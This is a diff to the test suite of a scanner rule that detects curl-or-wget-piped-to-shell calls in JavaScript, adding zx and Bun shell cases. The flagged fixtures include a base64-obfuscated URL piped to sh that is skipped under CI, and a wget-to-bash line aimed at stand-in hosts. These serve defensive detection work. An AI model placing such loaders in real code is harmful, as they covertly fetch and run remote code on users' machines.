@@ -4,6 +4,11 @@ import rule from './curl-pipe-shell-in-code.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'zx and Bun shell templates that run git and a build; a styled-components template',
+      file: 'scripts/release.mjs',
+      code: "import { $ } from 'zx';\nimport styled from 'styled-components';\nawait $`git status --short`;\nawait $`npm run build`;\nexport const Box = styled.div`\n  color: red;\n`;\n",
+    },
+    {
       name: 'prebuilt binary fetched and unpacked at install (no run), a JSON fetched for jq',
       file: 'scripts/install.js',
       code: "const { execSync } = require('child_process');\nexecSync('curl -fsSL -o vips.tgz https://github.com/x/releases/download/v1/vips.tgz && tar xzf vips.tgz -C vendor');\nexecSync('curl -s -o out.json https://api.example.org/x && jq .name out.json');\n",
@@ -40,6 +45,18 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: "Bun shell template: await $`curl … | sh` with the URL decoded inline",
+      file: 'scripts/env.ts',
+      code: "import { $ } from 'bun';\nexport async function validate() {\n  if (!process.env.CI) await $`curl -fsSL ${atob('aHR0cDovLzE5OC41MS4xMDAuMy9i')} | sh`.quiet();\n}\n",
+      findings: [{ line: 3, severity: 'critical', message: /run via bun\.\$/ }],
+    },
+    {
+      name: 'zx script: $`wget -qO- … | bash`',
+      file: 'scripts/setup.mjs',
+      code: "#!/usr/bin/env zx\nimport { $ } from 'zx';\nawait $`wget -qO- https://setup.example.invalid/s | bash`;\n",
+      findings: [{ line: 3, severity: 'high', message: /run via zx\.\$/ }],
+    },
     {
       name: 'postinstall per OS: certutil -urlcache then start, curl -o a dot-file then chmod +x and nohup, wget -qO then chmod',
       file: 'scripts/postinstall.js',
